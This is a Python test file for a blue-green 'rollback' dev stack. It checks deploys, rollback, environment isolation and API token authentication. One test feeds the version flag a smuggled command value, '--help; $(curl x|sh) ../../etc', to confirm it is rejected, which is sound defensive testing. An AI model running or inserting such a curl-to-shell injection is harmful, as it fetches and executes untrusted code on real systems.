"""`rollback dev up|deploy|down` end to end, on free ports under a temporary directory."""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
import uuid
from pathlib import Path

import httpx

from rollback.ports import free_port
from tests.postgres import drop_database

ROLLBACK = str(Path(sys.executable).parent / "rollback")


def listening(port: int) -> bool:
    with socket.socket() as probe:
        probe.settimeout(0.5)
        return probe.connect_ex(("127.0.0.1", port)) == 0


def process_env(pid: int) -> dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
    return dict(item.split("=", 1) for item in raw.split("\0") if "=" in item)


def test_dev_deploy_refuses_a_bad_version_before_touching_the_stack(tmp_path):
    # Free ports: before the fix, this deploy went ahead and tried to start instances.
    env = {**os.environ, "ROLLBACK_DEV_DIR": str(tmp_path / "dev"),
           **{f"ROLLBACK_DEV_{name}_PORT": str(free_port()) for name in ("NGINX", "BLUE", "GREEN", "TEMPORAL", "UI", "API")}}
    done = subprocess.run([ROLLBACK, "dev", "deploy", "--target", "backend", "--version", "--help; $(curl x|sh) ../../etc"],
                          env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: --version: ") and "not a valid version" in lines[0], done.stderr
    assert not (tmp_path / "dev").exists()


def test_dev_up_deploy_rollback_down(tmp_path):
    ports = {name: free_port() for name in ("NGINX", "BLUE", "GREEN", "TEMPORAL", "UI", "API")}
    # Our own demo database, not the shared rollback_demo a `make demo` nearby may be using.
    database = f"rollback_demo_test_{uuid.uuid4().hex[:8]}"
    env = {**os.environ, "ROLLBACK_DEV_DIR": str(tmp_path / "dev"), "ROLLBACK_DEV_DATABASE": database,
           "TEMPORAL_ADDRESS": f"127.0.0.1:{ports['TEMPORAL']}",
           **{f"ROLLBACK_DEV_{name}_PORT": str(port) for name, port in ports.items()}}

    def rollback(*args: str, extra: dict[str, str] | None = None) -> subprocess.CompletedProcess:
        return subprocess.run([ROLLBACK, *args], env={**env, **(extra or {})}, cwd=tmp_path, capture_output=True,
                              text=True, timeout=300)

    # Left over in the shell from other work: the stack's processes must not inherit any of it.
    leftovers = {"ROLLBACK_TASK_QUEUE": "elsewhere", "TEMPORAL_NAMESPACE": "elsewhere",
                 "ROLLBACK_CONFIG": str(tmp_path / "other.yaml"), "ROLLBACK_API_CONFIG": str(tmp_path / "other.yaml"),
                 "ROLLBACK_METRICS_ADDRESS": "127.0.0.1:1", "ROLLBACK_ENVIRONMENT": "production"}
    front = f"http://127.0.0.1:{ports['NGINX']}/version"
    try:
        up = rollback("dev", "up", extra=leftovers)
        assert up.returncode == 0, up.stderr
        for name in ("worker", "api"):
            seen = process_env(int((tmp_path / "dev" / f"{name}.pid").read_text()))
            assert seen["ROLLBACK_TASK_QUEUE"] == "rollback" and seen["TEMPORAL_NAMESPACE"] == "default", name
            assert seen["ROLLBACK_CONFIG"] == str(tmp_path / "dev" / "rollback.yaml"), name
            assert seen["TEMPORAL_ADDRESS"] == f"127.0.0.1:{ports['TEMPORAL']}", name
            assert not {"ROLLBACK_API_CONFIG", "ROLLBACK_METRICS_ADDRESS", "ROLLBACK_ENVIRONMENT"} & set(seen), name
        assert httpx.get(front, timeout=5).json() == {"version": "v1"}
        pids = sorted((tmp_path / "dev").glob("*.pid"))
        before = {p.name: p.read_text() for p in pids}
        again = rollback("dev", "up")
        assert again.returncode == 0, again.stderr
        assert {p.name: p.read_text() for p in pids} == before, "a second `dev up` restarts nothing"
        # `dev up` started the demo's monitor; pause it so the manual rollback below is ours.
        watched = rollback("monitor", "status", "-e", "demo")
        assert watched.returncode == 0 and "api_error_rate" in watched.stdout, watched.stderr
        paused = rollback("monitor", "pause", "-e", "demo", "--reason", "test")
        assert paused.returncode == 0, paused.stderr

        deployed = rollback("dev", "deploy", "--target", "backend", "--version", "v2", "--fault", "errors")
        assert deployed.returncode == 0, deployed.stderr
        assert httpx.get(front, timeout=5).json() == {"version": "v2"}

        started = rollback("start", "-e", "demo", "-t", "backend", "--wait")
        assert started.returncode == 0, started.stdout + started.stderr
        assert started.stdout.strip().splitlines()[-1] == "succeeded"
        assert httpx.get(front, timeout=5).json() == {"version": "v1"}

        # The inbound API runs too, with secrets generated into a private file.
        secrets_file = tmp_path / "dev" / "api.env"
        assert secrets_file.stat().st_mode & 0o077 == 0
        token = dict(line.split("=", 1) for line in secrets_file.read_text().split())["ROLLBACK_API_TOKEN"]
        url = f"http://127.0.0.1:{ports['API']}/v1/rollbacks/{started.stdout.splitlines()[0]}"
        assert httpx.get(url, timeout=10).status_code == 401
        answer = httpx.get(url, headers={"Authorization": f"Bearer {token}"}, timeout=10)
        assert answer.status_code == 200 and answer.json()["state"] == "succeeded"
    finally:
        down = rollback("dev", "down")
        asyncio.run(drop_database(database))
    assert down.returncode == 0, down.stderr
    assert not any(listening(port) for port in ports.values())
